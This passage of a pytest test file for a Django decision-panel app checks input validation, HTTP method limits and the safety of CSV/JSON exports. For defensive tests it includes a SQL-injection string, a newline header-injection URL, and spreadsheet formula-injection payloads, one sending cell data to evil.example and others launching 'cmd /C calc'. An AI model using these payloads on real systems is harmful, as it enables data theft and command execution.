    response = as_(world.s.chair).post(reverse("decisions:between_meetings", args=[world.waiting.public_id]))

    assert_refused(response, services.BETWEEN_MEETINGS_NOT_ALLOWED)
    assert snapshot() == before


def reconsideration_answers(w, **overrides) -> dict:
    return {
        "requested_by": "child",
        "requester_name": "Sam Advocate, Example Law",
        **day_fields("received_on", w.negative_decision.decided_on),
        "grounds": "new_evidence",
        "details": "A letter from the school.",
        **overrides,
    }


RECONSIDERATION_BAD_INPUT = {
    "nothing": (
        lambda w: dict(NOTHING),
        [
            "Select an answer for “Who asked?”",
            "Enter the date the request was received",
            "Select an answer for “Grounds”",
        ],
    ),
    "unknown-requester": (
        lambda w: reconsideration_answers(w, requested_by="the_press"),
        ["Select one of the answers"],
    ),
    "unknown-grounds": (lambda w: reconsideration_answers(w, grounds="whim"), ["Select one of the answers"]),
    "name-too-long": (
        lambda w: reconsideration_answers(w, requester_name="n" * 161),
        ["must be 160 characters or fewer"],
    ),
    "details-too-long": (lambda w: reconsideration_answers(w, details=TOO_LONG), ["10000"]),
    "letters-in-the-date": (
        lambda w: reconsideration_answers(w, received_on_0="a", received_on_1="b", received_on_2="c"),
        [],
    ),
    "huge-year": (lambda w: reconsideration_answers(w, received_on_2=HUGE), ["Enter a real date"]),
    "in-the-future": (
        lambda w: reconsideration_answers(w, **day_fields("received_on", today() + datetime.timedelta(days=1))),
        [services.RECEIVED_IN_FUTURE],
    ),
    "before-the-decision": (
        lambda w: reconsideration_answers(w, **day_fields("received_on", today() - datetime.timedelta(days=1))),
        ["The request cannot have been received before the decision"],
    ),
}


@pytest.mark.parametrize("case", RECONSIDERATION_BAD_INPUT.values(), ids=RECONSIDERATION_BAD_INPUT.keys())
def test_a_reconsideration_request_with_bad_input_is_refused(case, as_, world):
    answers, messages = case
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:reconsideration_request", args=[world.negative.public_id]), answers(world)
    )

    assert_refused(response, *messages)
    assert snapshot() == before


def test_a_late_reconsideration_request_without_an_exceptional_reason_is_refused(as_, world):
    Decision.objects.filter(pk=world.negative_decision.pk).update(decided_on=today() - datetime.timedelta(days=40))
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:reconsideration_request", args=[world.negative.public_id]),
        reconsideration_answers(world, **day_fields("received_on", today())),
    )

    assert_refused(response, services.RECONSIDERATION_LATE.format(days=40))
    assert snapshot() == before


def test_a_reconsideration_of_a_case_with_no_negative_decision_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:reconsideration_request", args=[world.case_a.public_id]), reconsideration_answers(world)
    )

    assert_refused(response, services.NO_NEGATIVE_DECISION)
    assert snapshot() == before


def test_accepting_a_reconsideration_already_refused_is_refused(as_, world):
    services.reconsideration_refuse(
        reconsideration=world.reconsideration, user=world.s.coordinator, reason="Nothing new."
    )
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:reconsideration_accept", args=[world.reconsideration.pk])
    )

    assert_refused(response, services.RECONSIDERATION_DONE.format(status="refused"))
    assert snapshot() == before


@pytest.mark.parametrize(
    ("name", "case", "message"),
    [
        ("reconsideration_refuse", None, "Enter an answer for “Why is the request refused?”"),
        ("case_close", "negative", "Enter an answer for “Why is the case being closed?”"),
    ],
)
@pytest.mark.parametrize("reason", ["", TOO_LONG], ids=["no-reason", "too-long"])
def test_refusing_or_closing_needs_a_reason_of_sensible_length(name, case, message, reason, as_, world):
    args = [getattr(world, case).public_id] if case else [world.reconsideration.pk]
    before = snapshot()

    response = as_(world.s.coordinator).post(reverse(f"decisions:{name}", args=args), {"reason": reason})

    assert_refused(response, message if not reason else "10000")
    assert snapshot() == before


def test_closing_a_case_still_awaiting_the_panel_is_refused(as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:case_close", args=[world.case_a.public_id]), {"reason": "Duplicate."}
    )

    assert_refused(response, status=409)
    assert snapshot() == before
    assert Referral.objects.get(pk=world.case_a.pk).state == State.ON_AGENDA


@pytest.mark.parametrize(
    "person", [lambda w: "abc", lambda w: HUGE, lambda w: w.theirs.s.social_care.pk], ids=["letters", "huge", "theirs"]
)
def test_a_lead_social_worker_not_on_the_panel_is_refused(person, as_, world):
    before = snapshot()

    response = as_(world.s.coordinator).post(
        reverse("decisions:lead_social_worker", args=[world.case_a.public_id]), {"person": person(world)}
    )

    assert_refused(response, "Choose a person from the list")
    assert snapshot() == before


# --- Returning decisions to the SCA ----------------------------------------------------------------

SCA_BAD_INPUT = {
    "nothing": (lambda w: dict(NOTHING), "Select the decisions that were sent to the Single Competent Authority"),
    "not-a-uuid": (lambda w: {"decisions": ["not-a-uuid"]}, "“not-a-uuid” is not a valid UUID"),
    "a-number": (lambda w: {"decisions": [HUGE]}, f"“{HUGE}” is not a valid UUID"),
    "another-panels-decision": (
        lambda w: {"decisions": [w.theirs.negative_decision.public_id]},
        "Select decisions from the list",
    ),
    "a-decision-not-signed-off": (lambda w: {"decisions": [w.rg_a.public_id]}, "Select decisions from the list"),
    "ours-and-theirs": (
        lambda w: {"decisions": [w.negative_decision.public_id, w.theirs.negative_decision.public_id]},
        "Select decisions from the list",
    ),
}


@pytest.mark.parametrize("case", SCA_BAD_INPUT.values(), ids=SCA_BAD_INPUT.keys())
def test_marking_as_returned_decisions_that_are_not_yours_or_not_signed_is_refused(case, as_, world):
    data, message = case
    before = snapshot()

    response = as_(world.s.coordinator).post(reverse("decisions:sca_return"), data(world))

    assert_refused(response, message)
    assert snapshot() == before


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("which", ["", "returned", "ALL", "all' OR 1=1", "x" * 5000])
def test_an_export_of_decisions_neither_all_nor_not_returned_is_refused(fmt, which, as_, world):
    response = as_(world.s.coordinator).get(reverse("decisions:sca_export", args=[fmt]), {"decisions": which})

    assert_refused(response, "Choose decisions not yet returned, or all decisions.")


@pytest.mark.parametrize("fmt", ["xlsx", "html", "pdf"])
def test_an_export_in_an_unknown_format_is_not_found(fmt, as_, world):
    response = as_(world.s.coordinator).get(reverse("decisions:sca_export", args=[fmt]))

    assert response.status_code == 404


def test_an_export_format_with_a_newline_is_refused_not_an_error(as_, world):
    client = as_(world.s.coordinator)
    client.raise_request_exception = False

    response = client.get("/sca-return/decisions.csv%0AX-Injected:%201")

    assert 400 <= response.status_code < 500
    assert "X-Injected" not in response.headers


FORMULAS = {
    "reasons": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "evidence_considered": "+cmd|' /C calc'!A0",
    "dissent": "-2+3+cmd|' /C calc'!A0",
    "delay_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_csv_export_makes_cells_starting_like_a_formula_plain_text(as_, world, monkeypatch):
    case = world.steps.case()
    item = services.agenda_add(meeting=world.done, referral=case, user=world.s.coordinator)
    services.decision_record(item=item, user=world.s.chair, kind=DecisionKind.RG, outcome=Outcome.NEGATIVE, **FORMULAS)
    services.item_sign_off(item=item, user=world.s.chair)
    decision = Decision.objects.get(referral=case)
    client = as_(world.s.coordinator)

    response = client.get(reverse("decisions:sca_export", args=["csv"]), {"decisions": "all"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = {row["decision_id"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    row = rows[str(decision.public_id)]
    for field, text in FORMULAS.items():
        assert row[field] == "'" + text, field
    for cells in rows.values():
        for value in cells.values():
            assert not value.startswith(("=", "+", "@")), value
    # The JSON export is data, not a spreadsheet: the text is as the panel wrote it.
    exported = json.loads(client.get(reverse("decisions:sca_export", args=["json"]), {"decisions": "all"}).content)
    assert (
        next(d for d in exported["decisions"] if d["decision_id"] == str(decision.public_id))["reasons"]
        == (FORMULAS["reasons"])
    )


# --- The wrong method ------------------------------------------------------------------------------

POST_ONLY = {
    "meetings_schedule": lambda w: [w.s.panel.pk],
    "meeting_open": lambda w: [w.fresh.public_id],
    "agenda_add": lambda w: [w.later.public_id],
    "agenda_reorder": lambda w: [w.meeting.public_id, w.item_b.pk],
    "conflict_add": lambda w: [w.meeting.public_id, w.item_a.pk],
    "conflict_remove": lambda w: [w.meeting.public_id, w.item_a.pk, w.conflict.pk],
    "deputy_set": lambda w: [w.meeting.public_id, w.item_a.pk],
    "decision_remove": lambda w: [w.meeting.public_id, w.item_a.pk, "rg"],
    "sign_off": lambda w: [w.meeting.public_id, w.item_a.pk],
    "between_meetings": lambda w: [w.waiting.public_id],
    "reconsideration_accept": lambda w: [w.reconsideration.pk],
}
COORDINATORS_BUTTONS = {"meetings_schedule", "agenda_add", "agenda_reorder", "reconsideration_accept"}


@pytest.mark.parametrize("name", POST_ONLY)
def test_a_get_of_a_button_is_not_allowed_and_does_nothing(name, as_, world):
    user = world.s.coordinator if name in COORDINATORS_BUTTONS else world.s.chair
    before = snapshot()

    for method in ("get", "head", "put", "delete"):
        response = getattr(as_(user), method)(reverse(f"decisions:{name}", args=POST_ONLY[name](world)))
        assert response.status_code == 405, method

    assert snapshot() == before


def test_only_get_and_post_reach_a_form(as_, world):
    url = reverse("decisions:decision_record", args=[world.meeting.public_id, world.item_a.pk, "rg"])
    before = snapshot()

    for method in ("put", "patch", "delete"):
        assert getattr(as_(world.s.chair), method)(url).status_code == 405

    assert snapshot() == before
